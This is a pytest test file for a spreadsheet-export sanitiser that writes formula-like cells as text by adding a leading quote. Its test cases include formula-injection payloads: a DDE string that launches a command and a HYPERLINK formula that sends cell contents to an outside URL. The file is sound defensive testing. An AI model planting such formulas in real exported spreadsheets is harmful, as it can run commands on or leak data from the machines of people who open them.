"""Exported cells can never be formulas."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from luoshi.core.sheets import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1+cmd|' /C calc'!A0", "'=1+1+cmd|' /C calc'!A0"),
        (
            '=HYPERLINK("http://example.com/?"&A1,"点击查看")',
            '\'=HYPERLINK("http://example.com/?"&A1,"点击查看")',
        ),
        ("+86 139", "'+86 139"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("溶洞互通式立交开工", "溶洞互通式立交开工"),
        ("a=1", "a=1"),
        ("", ""),
        (None, None),
        (Decimal("-5"), Decimal("-5")),
        (-3, -3),
        (date(2023, 7, 25), date(2023, 7, 25)),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_a_row():
    assert safe_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


@pytest.mark.parametrize("text", ["=1+1", "-1", "普通文字", "'引号开头", "@x"])
def test_reading_back_gives_the_same_words(text):
    from luoshi.core.sheets import cell_text

    assert cell_text(safe_cell(text)) == text
